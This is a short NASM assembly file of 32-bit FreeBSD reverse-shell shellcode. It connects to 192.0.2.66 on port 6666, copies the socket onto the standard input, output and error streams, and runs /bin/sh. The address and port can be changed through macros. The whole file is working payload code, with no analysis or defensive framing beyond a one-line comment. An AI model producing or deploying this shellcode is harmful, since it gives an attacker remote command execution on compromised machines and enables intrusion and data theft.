; FreeBSD, 32 bit: connects to 192.0.2.66 port 6666 and hands the connection to a shell.
bits 32
%ifndef PORT
%define PORT 6666
%define ADDRESS 0x420200c0     ; 192.0.2.66
%endif
        push dword ADDRESS
        push dword 0x0210 | ((PORT & 255) << 24) | ((PORT >> 8) << 16) ; length, family, port
        mov edi, esp
        xor eax, eax
        push eax
        push byte 1
        push byte 2
        push eax
        mov al, 97
        int 80h
        mov esi, eax
        push byte 16
        push edi
        push esi
        push eax
        push byte 98
        pop eax
        int 80h
        push byte 2
        pop ebx
again:  push ebx
        push esi
        push eax
        push byte 90
        pop eax
        int 80h
        dec ebx
        jns again
        xor eax, eax
        push eax
        push dword '//sh'
        push dword '/bin'
        mov ebx, esp
        push eax
        push ebx
        mov ecx, esp
        push eax
        push ecx
        push ebx
        push eax
        mov al, 59
        int 80h
